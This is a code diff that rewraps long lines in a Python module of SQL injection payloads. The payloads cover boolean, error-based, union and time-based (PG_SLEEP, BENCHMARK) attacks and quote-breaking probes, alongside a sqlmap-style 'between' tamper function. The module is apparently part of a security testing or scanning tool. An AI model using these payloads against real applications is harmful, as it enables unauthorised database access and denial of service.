@@ -86,13 +86,17 @@ PAYLOADS: dict[str, list[str]] = {
         "-4251{q} OR 4611=4611#",
         "1{q} WHERE 3098=3098 AND 5811=7928-- x",
         "1{q} RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))-- x",
-        "1{q} AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,0x70,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- x",
+        "1{q} AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,0x70,(SELECT (ELT(1=1,1))),"
+        "0x71))s), 8446744073709551610, 8446744073709551610)))-- x",
     ],
     "error": [
-        "1{q} AND EXTRACTVALUE(1534,CONCAT(0x5c,0x716a6a7671,(SELECT (ELT(1534=1534,1))),0x7178627071))-- x",
+        "1{q} AND EXTRACTVALUE(1534,CONCAT(0x5c,0x716a6a7671,(SELECT (ELT(1534=1534,1))),"
+        "0x7178627071))-- x",
         "1{q} AND UPDATEXML(1,CONCAT(0x2e,0x71,(SELECT version()),0x71),1)-- x",
-        "1{q} AND 6254=CAST((CHR(113)||CHR(120)||CHR(112))||(SELECT (CASE WHEN (6254=6254) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(122)) AS NUMERIC)-- x",
-        "1{q} AND (SELECT 4201 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(4201=4201,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- x",
+        "1{q} AND 6254=CAST((CHR(113)||CHR(120)||CHR(112))||(SELECT (CASE WHEN (6254=6254) THEN 1 E"
+        "LSE 0 END))::text||(CHR(113)||CHR(122)) AS NUMERIC)-- x",
+        "1{q} AND (SELECT 4201 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(4201=4201,1))),0x71,"
+        "FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- x",
         "1{q} AND EXP(~(SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71,0x78))x))-- x",
     ],
     "union": [
@@ -116,7 +120,8 @@ PAYLOADS: dict[str, list[str]] = {
         "1{q} AND 1234=(SELECT 1234 FROM PG_SLEEP(5))-- x",
         "1{q} AND 2154=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))-- x",
         "1{q} OR BENCHMARK(5000000,MD5(0x414243))#",
-        "1{q} AND 9438=(CASE WHEN (9438=9438) THEN (SELECT 9438 FROM PG_SLEEP(5)) ELSE 9438 END)-- x",
+        "1{q} AND 9438=(CASE WHEN (9438=9438) THEN (SELECT 9438 FROM PG_SLEEP(5)) ELSE 9438 END)-- "
+        "x",
     ],
     "probe": [  # quote-breaking probes that get a 500 out of a vulnerable app
         "1{q}",
@@ -144,7 +149,8 @@ def _space2comment(payload: str) -> str:
 
 
 def _between(payload: str) -> str:
-    """sqlmap's between.py: ``A > B`` -> ``A NOT BETWEEN 0 AND B``, ``A = B`` -> ``A BETWEEN B AND B``."""
+    """sqlmap's between.py: ``A > B`` -> ``A NOT BETWEEN 0 AND B``,
+    ``A = B`` -> ``A BETWEEN B AND B``."""
     payload = re.sub(r"(\w+)\s*>\s*(\w+)", r"\1 NOT BETWEEN 0 AND \2", payload)
     return re.sub(r"(\b\d+)\s*=\s*(\d+\b)", r"\1 BETWEEN \2 AND \2", payload)
 
